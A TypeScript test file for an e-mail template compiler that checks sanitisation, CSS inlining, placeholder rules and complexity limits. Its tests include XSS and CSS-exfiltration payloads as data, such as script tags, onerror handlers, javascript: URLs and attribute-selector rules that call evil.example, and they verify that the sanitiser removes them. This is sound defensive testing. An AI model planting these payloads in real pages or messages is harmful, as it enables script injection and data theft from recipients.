import { Problem } from '@kaiku/sdk/server';
import { expect } from 'chai';
import {
  type Design,
  filledTemplate,
  type LetterLook,
  linkTag,
  messageTag,
  templateLimits,
  writeMail,
} from '../../contract/index.ts';
import { compileBlocks, compileSource } from '../../server/templates/compile.ts';
import { block, design, source } from '../templates.ts';

const look: LetterLook = { language: 'fi', accent: '#123456', logo: { address: 'https://k.fi/logo', name: 'Kahvila' } };
const filling = { survey: 'Kahvi', link: 'https://k.fi/a/x?r=1&u=2', wayOut: 'https://k.fi/stop' };
const addressOf = (file: string): string => `https://k.fi/picture/${file}`;
const ofBlocks = (made: Design = design()) => compileBlocks(made, addressOf);
const ofSource = (html: string, css = '') => compileSource({ html, css });
const filled = (compiled: string, body = 'Hei!\n\n{{link}}\n\nKiitos', with_ = filling) =>
  writeMail(body, with_, look, compiled);

/** Codes of what somebody is told, and of what. */
const told = ({ findings }: { findings: { code: string; value: string }[] }) =>
  findings.map(({ code, value }) => `${code} ${value}`.trim());
async function refused(work: () => unknown): Promise<string[]> {
  try {
    await work();
  } catch (error) {
    if (error instanceof Problem) return error.details.map(({ code }) => code);
    throw error;
  }
  throw new Error('it was taken');
}

describe('e-mail templates', () => {
  describe('of blocks', () => {
    it('DEL-080 compiles blocks to a document that mail programs draw alike, with colours for the dark', () => {
      const { compiled, findings } = ofBlocks();
      expect(findings).to.deep.equal([]);
      expect(compiled).to.match(/^<!doctype html><html lang="\{\{language\}\}"/);
      expect(compiled).to.include('<!--[if mso | IE]>').and.include('prefers-color-scheme: dark');
      expect(compiled).to.include('name="referrer" content="no-referrer"').and.not.include('<script');
      const texts = ['Our &lt;café&gt; &amp; {{survey}}', messageTag, 'Tell us', 'The café, Turku', '{{unsubscribe}}'];
      expect(texts.map((text) => compiled.indexOf(text))).to.satisfy((at: number[]) =>
        at.every((place, index) => place > (at[index - 1] ?? 0)),
      );
    });

    it('DEL-080 what people write in blocks is text, whatever it holds', () => {
      const hostile = '</mj-text><mj-raw><script>alert(1)</script></mj-raw>"\'&{{survey}}';
      const { compiled } = ofBlocks(
        design({
          blocks: [
            block('text', { text: hostile, heading: false, align: 'left' }),
            block('image', { file: 'p', alt: hostile }),
            block('message', {}),
            block('button', { label: hostile, align: 'left' }),
            block('footer', { text: hostile }),
          ],
        }),
      );
      expect(compiled).not.to.include('<script').and.not.include('mj-raw>');
      expect(filled(compiled).html).not.to.include('<script').and.not.include('{{');
    });

    it('DEL-081 refuses blocks without the message, or without a link', async () => {
      const without = (type: string) => design({ blocks: design().blocks.filter((one) => one.type !== type) });
      expect(await refused(() => ofBlocks(without('message')))).to.deep.equal(['template_message']);
      expect(await refused(() => ofBlocks(without('button')))).to.deep.equal(['template_link']);
      const inText = [block('message', {}), block('text', { text: `Here: ${linkTag}`, heading: false, align: 'left' })];
      expect(ofBlocks(design({ blocks: inText })).compiled).to.include(linkTag);
    });

    it('DEL-082 tells of pictures that are missing or say nothing', () => {
      const blocks = [
        ...design().blocks,
        block('image', { file: null, alt: '' }),
        block('image', { file: 'p', alt: '' }),
      ];
      expect(told(ofBlocks(design({ blocks })))).to.deep.equal(['image_missing 7', 'image_alt 8']);
    });
  });

  describe('of HTML and CSS', () => {
    it('DEL-080 writes the CSS into the parts that it is about, and keeps what depends on the screen', async () => {
      const { compiled, css } = await ofSource(
        source.html,
        `${source.css} @media (max-width: 600px) { .go { color: red } }`,
      );
      expect(compiled).to.include('<div class="card" style="color:#112233">{{message}}</div>');
      expect(compiled).to.include('<a class="go" href="{{link}}" style="font-weight:bold">');
      expect(compiled).to.match(/<style>@media \(max-width:\s?600px\)\{\.go\{color:red\}\}<\/style>/);
      expect(css).to.include('.card { color: #112233 }');
    });

    it('DEL-080 takes a whole page, with its styles in it', async () => {
      const page = `<!doctype html><html><head><title>x</title><style>.a{color:#010203}</style></head><body><div class="a">{{message}} {{LINK}}</div></body></html>`;
      const made = await ofSource(page);
      expect(made.compiled).to.include('<div class="a" style="color:#010203">{{message}} {{link}}</div>');
      expect(told(made)).to.include('styles_moved');
    });

    const hostile: [string, string][] = [
      ['<script>alert(1)</script>', 'removed <script>'],
      ['<img src=x onerror=alert(1) alt="">', 'removed onerror="…"'],
      ['<a href="java\nscript:alert(1)">x</a>', 'removed javascript:alert(1)'],
      ['<a href=" &#106;avascript:alert(1)">x</a>', 'removed javascript:alert(1)'],
      ['<a href="data:text/html,<script>alert(1)</script>">x</a>', 'removed data:text/html,<script>alert(1)</script>'],
      ['<a href="vbscript:x">x</a>', 'removed vbscript:x'],
      ['<form action="https://evil.example"><input name="p"><button>x</button></form>', 'removed <form>'],
      ['<iframe src="https://evil.example"></iframe>', 'removed <iframe>'],
      ['<object data="x"></object><embed src="x">', 'removed <object>'],
      ['<link rel="stylesheet" href="https://evil.example/x.css">', 'removed <link>'],
      ['<base href="https://evil.example/">', 'removed <base>'],
      ['<meta http-equiv="refresh" content="0;url=https://evil.example">', ''],
      ['<svg><script>alert(1)</script></svg>', 'removed <svg>'],
      ['<math><mi xlink:href="javascript:alert(1)">x</mi></math>', 'removed <math>'],
      ['<p style="behavior:url(#x)">x</p>', 'removed behavior'],
      ['<p style="background:url(\'javascript:alert(1)\')">x</p>', 'removed url(javascript:alert(1))'],
      ['<p style="width:expression(alert(1))">x</p>', 'removed expression()'],
      ['<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>', 'removed background="…"'],
      ['<!--[if mso]><script>alert(1)</script><![endif]-->', ''],
      ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', 'removed <noscript>'],
      ['<img src="//evil.example/x.png" alt="">', 'address_relative //evil.example/x.png'],
    ];
    for (const [html, what] of hostile) {
      it(`DEL-080 leaves out, and tells: ${html.replaceAll('\n', ' ')}`, async () => {
        const made = await ofSource(`${html}<div>{{message}} {{link}}</div>`);
        if (what) expect(told(made)).to.include(what);
        const out = made.compiled.slice(made.compiled.indexOf('<body')).toLowerCase();
        const gone =
          /<(script|form|input|button|iframe|object|embed|link|base|meta|svg|math|noscript)|\son[a-z]+=|javascript:|vbscript:|evil|expression\(|behavior|<!--/;
        expect(out).not.to.match(gone);
        expect(made.html.toLowerCase()).not.to.match(gone);
      });
    }

    it('DEL-080 leaves out of CSS what fetches from elsewhere or ends its element', async () => {
      const css = `@import url("https://evil.example/x.css"); @font-face { font-family: x; src: url(https://evil.example/x) }
        .a { -moz-binding: url(x); background: url(//evil.example/x.png) } .b { color: red; content: "</style><script>" }
        @media screen { .c { background: image-set("https://evil.example/y.png" 1x); color: blue } }`;
      const made = await ofSource('<div class="a b c">{{message}} {{link}}</div>', css);
      expect(told(made)).to.include.members(['removed @import', 'removed @font-face', 'removed -moz-binding']);
      expect(made.compiled).to.include('color:red').and.not.include('evil').and.not.include('<script');
      expect(made.compiled.match(/<\/style/g)).to.have.length(1);
    });

    it('DEL-080 leaves out rules that would tell somebody else the letters of a link', async () => {
      const css = `a[href^="https://k.fi/a/b"] { background: url(https://evil.example/b) }
        @media screen { p:has(A[HREF*="c"]), .b { background: url(https://evil.example/c) } } .b { color: red }`;
      const made = await ofSource('<a class="b" href="{{link}}">x</a>{{message}}', css);
      expect(told(made)).to.include.members(['removed [href^="https://k.fi/a/b"]', 'removed [HREF*="c"]']);
      expect(made.compiled)
        .to.match(/color: ?red/)
        .and.not.include('evil');
    });

    it('DEL-151 is refused with a message that stands in it again and again, or with very many places', async () => {
      const link = '<a href="{{link}}">Answer</a>';
      const having = (places: string) => () => ofSource(`<p>{{message}}</p>${link}${places}`);
      expect(await refused(having('{{ Message }}'.repeat(3)))).to.deep.equal(['template_repeats']);
      expect(await refused(having('{{message}}'.repeat(5_000)))).to.deep.equal(['template_repeats']);
      expect(await refused(having('{{survey}} '.repeat(2_000)))).to.deep.equal(['template_repeats']);
      await ofSource(`<p>{{message}}</p><p>{{message}}</p>${link}${'<b>{{survey}}</b>'.repeat(40)}`);
    });

    it('DEL-151 is not filled in again and again either, where it was saved before', () => {
      const places = {
        message: 'long words',
        survey: 'S',
        link: 'L',
        linkAddress: '',
        unsubscribe: '',
        unsubscribeAddress: '',
      };
      const filled = (compiled: string) =>
        filledTemplate(compiled, { ...places, logo: '', accent: '', language: '' }).match(/long words|S/g)?.length;
      expect(filled('<p>{{message}}</p>'.repeat(5_000))).to.equal(3);
      expect(filled('{{survey}}'.repeat(2_000))).to.equal(100);
    });

    it('DEL-081 refuses HTML without the message or a link, and places where nothing can be filled in', async () => {
      expect(await refused(() => ofSource('<p>Hello</p>'))).to.deep.equal(['template_message', 'template_link']);
      for (const html of [
        '<p title="{{message}}">{{message}} {{link}}</p>',
        '<a href="https://elsewhere.example/?to={{link}}">{{message}} {{link}}</a>',
        '<p id="{{survey}}">{{message}} {{link}}</p>',
        // Behind what only looks like an attribute.
        '<p>see a="</p><p id="{{survey}}">{{message}} {{link}}</p>',
        '<img alt="{{link}}" src="https://k.fi/x.png">{{message}} {{link}}',
      ])
        expect(await refused(() => ofSource(html)), html).to.deep.equal(['template_place']);
      const css = '.a { content: "{{link}}" }';
      expect(await refused(() => ofSource('<p class="a">{{message}} {{link}}</p>', css))).to.deep.equal([
        'template_place',
      ]);
      const inRule = '@media screen { .a { content: "{{survey}}" } }';
      expect(await refused(() => ofSource('<p>{{message}} {{link}}</p>', inRule))).to.deep.equal(['template_place']);
    });

    it('DEL-082 tells what mail programs break', async () => {
      const made = await ofSource(
        '<div style="display:flex;position:absolute"><img src="http://k.fi/a.png"><a href="/here">x</a>{{message}} {{link}} {{nothing}}</div>',
        '.a { width: calc(1px + 2px); --x: 1px; transform: none }',
      );
      expect(told(made)).to.have.members([
        'unsupported_css display: flex',
        'unsupported_css position',
        'unsupported_css calc()',
        'unsupported_css var()',
        'unsupported_css transform',
        'image_insecure http://k.fi/a.png',
        'image_alt http://k.fi/a.png',
        'address_relative /here',
        'place_unknown {{nothing}}',
        'way_out_added',
      ]);
    });

    it('DEL-082 tells where Gmail cuts the message off', async () => {
      const long = `<p>${'word '.repeat(19_900)}</p>`;
      expect(told(await ofSource(`${long}{{message}} {{link}}`))).not.to.include('clipped');
      expect(told(await ofSource(`${long}${'<p>åäö</p>'.repeat(500)}{{message}} {{link}}`))).to.include('clipped');
    });

    it('DEL-080 is not kept busy by what nobody writes', async () => {
      const end = '{{message}} {{link}}';
      expect(await refused(() => ofSource('<b>'.repeat(5_000) + end))).to.deep.equal(['template_complex']);
      const css = Array.from({ length: 900 }, (_, at) => `p:nth-child(${at}){color:red}`).join('');
      expect(await refused(() => ofSource('<p>x</p>'.repeat(900) + end, css))).to.deep.equal(['template_complex']);
      const long = `br{${'color:red;'.repeat(2_000)}}`;
      expect(await refused(() => ofSource('<br>'.repeat(3_000) + end, long))).to.deep.equal(['template_complex']);
      const siblings = Array.from({ length: 100 }, () => '.z~br{color:red}').join('');
      expect(await refused(() => ofSource('<br>'.repeat(3_000) + end, siblings))).to.deep.equal(['template_complex']);
      const deep = [`${'('.repeat(templateLimits.css)}`, `a{b:${'('.repeat(5_000)}`, `${':not('.repeat(5_000)}`];
      for (const one of deep) expect(told(await ofSource(end, one)).join()).to.match(/css_unread/);
      // And works after that.
      expect((await ofSource(source.html, source.css)).compiled).to.include('color:#112233');
    });
  });

  describe('filled in', () => {
    it('DEL-083 DEL-055 fills in the message, the link, the names and the way out, all of them as text', async () => {
      const { compiled } = await ofSource(
        '<h1>{{survey}}</h1>{{logo}}<p>{{message}}</p><a href="{{link}}">Go</a><p>{{unsubscribe}}</p>',
      );
      const { html, text } = filled(compiled, 'Hei <b>{{survey}}</b>\nrivi\n\n{{link}}\n\nKatso {{link}}.', {
        ...filling,
        survey: '"><script>{{message}}',
      });
      expect(html).to.match(/^<!doctype html><html lang="fi">/);
      expect(html).to.include('<h1>&quot;&gt;&lt;script&gt;{{message}}</h1>');
      expect(html).to.include('<img src="https://k.fi/logo" alt="Kahvila"');
      expect(html).to.include('Hei &lt;b&gt;&quot;&gt;&lt;script&gt;{{message}}&lt;/b&gt;<br>rivi</p>');
      expect(html).to.include('<a href="https://k.fi/a/x?r=1&amp;u=2">Go</a>');
      expect(html).to.include('Katso <a href="https://k.fi/a/x?r=1&amp;u=2">https://k.fi/a/x?r=1&amp;u=2</a>.');
      expect(html).to.include('<a href="https://k.fi/stop" style="color:inherit">En halua kyselyitä</a>');
      expect(html).not.to.include('<script').and.not.include('{{link}}');
      expect(text).to.equal(
        writeMail(
          'Hei <b>{{survey}}</b>\nrivi\n\n{{link}}\n\nKatso {{link}}.',
          { ...filling, survey: '"><script>{{message}}' },
          look,
        ).text,
      );
    });

    it('DEL-083 the button of the template stands for a link on a line by itself, and for one that is not said', () => {
      const { compiled } = ofBlocks();
      for (const body of ['Hei!\n\n{{link}}', 'Hei!']) {
        const { html } = filled(compiled, body);
        expect(html.match(/href="https:\/\/k\.fi\/a\/x/g), body).to.have.length(1);
        expect(html).to.include('background:#123456').and.include('bgcolor="#123456"');
      }
    });

    it('DEL-084 the way out comes at the end where the template has none, and nothing where nobody offers one', async () => {
      const { compiled } = await ofSource(source.html);
      expect(filled(compiled).html).to.match(/https:\/\/k\.fi\/stop"[^>]*>En halua kyselyitä<\/a><\/div><\/body>/);
      const { html } = writeMail('Hei', { ...filling, wayOut: null }, look, compiled);
      expect(html).not.to.include('{{').and.not.include('En halua');
      const own = await ofSource('{{message}}{{link}}<a href="{{unsubscribe}}">Stop</a>');
      expect(filled(own.compiled).html).to.include('<a href="https://k.fi/stop">Stop</a>');
    });
  });
});
